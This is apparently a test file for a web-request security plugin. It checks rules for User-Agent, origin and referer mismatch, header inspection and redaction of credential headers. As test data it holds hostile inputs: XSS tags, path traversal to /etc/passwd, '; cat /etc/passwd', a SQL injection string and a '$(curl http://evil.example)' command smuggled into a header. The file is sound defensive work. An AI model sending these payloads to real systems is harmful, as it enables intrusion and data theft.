import { connect } from 'node:net'
import t from 'tap'
import { CleanCache } from '../src/clean-cache.js'
import { build, collectDetections } from './fixtures/app.js'

/** Sends a raw GET without any User-Agent header (inject and undici would add one) and returns the status. */
async function rawStatus(port: number, path: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    let data = ''
    socket.on('data', (chunk) => {
      data += chunk
      const match = /^HTTP\/1\.1 (\d{3})/.exec(data)
      if (match !== null) {
        socket.destroy()
        resolve(Number(match[1]))
      }
    })
    socket.on('error', reject)
    socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`)
  })
}

t.test('a missing or empty User-Agent matches user-agent-missing (low)', async (t) => {
  const app = await build()
  const events = collectDetections(t)
  await app.inject({ url: '/', headers: { 'user-agent': '' } })
  await app.listen({ port: 0, host: '127.0.0.1' })
  t.teardown(() => app.close())
  const address = app.server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  t.equal(await rawStatus(address.port, '/'), 200)
  t.same(events, [
    {
      rule: 'user-agent-missing',
      type: 'user-agent',
      severity: 'low',
      mode: 'monitor',
      location: 'header',
      sample: '',
      field: 'user-agent',
    },
    {
      rule: 'user-agent-missing',
      type: 'user-agent',
      severity: 'low',
      mode: 'monitor',
      location: 'header',
      sample: '',
      field: 'user-agent',
    },
  ])
})

t.test('a User-Agent over userAgentMaxLength (500 by default) matches user-agent-oversized', async (t) => {
  const app = await build()
  const events = collectDetections(t)
  await app.inject({ url: '/', headers: { 'user-agent': 'a'.repeat(500) } })
  t.equal(events.length, 0, '500 is fine')
  await app.inject({ url: '/', headers: { 'user-agent': 'a'.repeat(501) } })
  t.match(events, [{ rule: 'user-agent-oversized', severity: 'medium', sample: /^501 characters: a+$/ }])
  t.equal(events[0]?.sample.length, 64)
  const strict = await build({ userAgentMaxLength: 20, mode: 'block' })
  t.equal((await strict.inject({ url: '/', headers: { 'user-agent': 'curl/8.7.1' } })).statusCode, 200)
  const refused = await strict.inject({ url: '/', headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)' } })
  t.equal(refused.statusCode, 403)
  t.match(refused.json().detail, /user-agent detected in the header/)
})

t.test('origin-mismatch: the Referer must come from the Origin (the seed compared prefixes)', async (t) => {
  const app = await build({ sampleLength: 128 })
  const events = collectDetections(t)
  const origin = 'https://app.example.com'
  const cases: [Record<string, string>, boolean][] = [
    [{ origin, referer: 'https://app.example.com/compose?draft=1' }, false],
    [{ origin, referer: 'https://app.example.com:443/x' }, false],
    [{ origin: 'HTTPS://APP.EXAMPLE.COM', referer: 'https://app.example.com/' }, false],
    [{ origin: 'null', referer: 'https://evil.example/' }, false],
    [{ referer: 'https://www.google.com/' }, false],
    [{ origin }, false],
    [{ origin, referer: 'https://evil.example/page' }, true],
    // The seed's referer.startswith(origin) accepts these two.
    [{ origin, referer: 'https://app.example.com.evil.example/' }, true],
    [{ origin, referer: 'https://app.example.com@evil.example/' }, true],
    [{ origin, referer: 'http://app.example.com/' }, true],
    [{ origin, referer: 'not a url' }, true],
    [{ origin: 'garbage', referer: 'https://app.example.com/' }, true],
  ]
  for (const [headers, mismatch] of cases) {
    events.length = 0
    await app.inject({ url: '/', headers })
    t.equal(
      events.some((event) => event.rule === 'origin-mismatch'),
      mismatch,
      JSON.stringify(headers),
    )
  }
  events.length = 0
  await app.inject({ url: '/', headers: { origin, referer: 'https://evil.example/p?session=secret' } })
  t.match(events, [
    {
      rule: 'origin-mismatch',
      type: 'origin-mismatch',
      severity: 'medium',
      location: 'header',
      field: 'referer',
      sample: 'origin https://app.example.com, referer from https://evil.example',
    },
  ])
  t.notMatch(events[0]?.sample, /secret/, 'the referer path and query are not sampled')
})

t.test('the selected headers are inspected, others are not; the list is configurable', async (t) => {
  const app = await build()
  const events = collectDetections(t)
  await app.inject({ url: '/', headers: { referer: 'https://x.example/?q=<script>alert(1)</script>' } })
  await app.inject({ url: '/', headers: { 'x-forwarded-host': 'evil.example/../../etc/passwd' } })
  await app.inject({ url: '/', headers: { 'x-other': '<script>alert(1)</script>' } })
  t.same(
    events.map((event) => [event.rule, event.field]),
    [
      ['xss-script-tag', 'referer'],
      ['xss-script-api', 'referer'],
      ['path-traversal-sequence', 'x-forwarded-host'],
      ['path-traversal-file', 'x-forwarded-host'],
    ],
  )
  const custom = await build({ headers: ['x-other', 'set-cookie'] })
  events.length = 0
  await custom.inject({ url: '/', headers: { 'x-other': ['fine', '; cat /etc/passwd'] } })
  await custom.inject({ url: '/', headers: { 'set-cookie': ['a=1', 'b=<iframe src=//evil.example>'] } })
  await custom.inject({ url: '/', headers: { referer: 'https://x.example/?q=<script>' } })
  t.same(
    events.map((event) => [event.rule, event.field]),
    [
      ['path-traversal-file', 'x-other'],
      ['command-injection-chained', 'x-other'],
      ['xss-embedding-tag', 'set-cookie'],
    ],
  )
  t.equal(events.at(-1)?.sample, '[redacted]', 'a cookie header is never sampled')
})

t.test('a header of the credential kind may be inspected but is never sampled', async (t) => {
  const app = await build({ headers: ['authorization', 'cookie', 'x-api-key', 'user-agent'] })
  const events = collectDetections(t)
  await app.inject({
    url: '/',
    headers: {
      authorization: "Bearer ' OR '1'='1",
      cookie: 'session=abc; theme=<script>alert(1)</script>',
      'x-api-key': '$(curl http://evil.example)',
      'user-agent': 'Mozilla/5.0 <iframe src=//evil.example>',
    },
  })
  const samples = Object.fromEntries(events.map((event) => [event.field, event.sample]))
  t.same(samples, {
    authorization: '[redacted]',
    cookie: '[redacted]',
    'x-api-key': '[redacted]',
    'user-agent': 'Mozilla/5.0 <iframe src=//evil.example>',
  })
})

t.test('a clean header value is remembered for every route; a matching one never is', async (t) => {
  const app = await build({ mode: 'block' }, (app) => {
    app.get('/lenient', { config: { rampart: { shield: { rules: { xss: false } } } } }, async () => 'ok')
    app.get('/strict', async () => 'ok')
  })
  const referer = 'https://x.example/?q=<svg onload=alert(1)>'
  t.equal((await app.inject({ url: '/lenient', headers: { referer } })).statusCode, 200)
  t.equal((await app.inject({ url: '/strict', headers: { referer } })).statusCode, 403)
  t.equal((await app.inject({ url: '/lenient', headers: { referer } })).statusCode, 200)
  t.equal((await app.inject({ url: '/strict', headers: { referer } })).statusCode, 403)
})

t.test('the clean-value cache is bounded: the oldest value goes first', async (t) => {
  const cache = new CleanCache(3)
  for (const value of ['a', 'b', 'c', 'd']) cache.add(value)
  t.equal(cache.size, 3)
  t.notOk(cache.has('a'))
  t.ok(cache.has('b') && cache.has('d'))
})
